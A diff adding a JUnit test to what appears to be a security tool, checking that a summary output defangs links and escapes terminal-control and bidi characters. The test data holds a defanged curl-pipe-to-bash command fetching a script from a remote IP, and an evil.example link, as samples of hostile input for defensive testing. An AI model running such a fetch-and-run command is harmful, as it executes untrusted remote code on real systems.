@@ -77,6 +77,16 @@ class ProgramFormsTest {
                         line -> assertThat(line).hasSizeLessThan(1000).doesNotContain("\u001b", "\u202e", "\u0000"));
     }
 
+    @Test
+    void nothingInTheSummaryIsALinkOrHidesAnything() {
+        assertThat(Summary.of(SampleAnalysis.plain()))
+                .doesNotContain("http://", "198.51.100.7/x.sh")
+                .contains("curl -fsSL hxxp[://]198[.]51[.]100[.]7/x[.]sh | bash");
+        assertThat(Summary.of(SampleAnalysis.saying(java.util.List.of("a\u202eb\u001b[2J https://evil.example/x"))))
+                .contains("a\\u202eb\\u001b[2J hxxps[://]evil[.]example/x")
+                .doesNotContain("evil.example");
+    }
+
     private Shell.Result validated(Path script, Path schema, Path sarif) throws Exception {
         return Shell.run(
                 folder, Map.of(), "python3", "-W", "ignore", script.toString(), schema.toString(), sarif.toString());
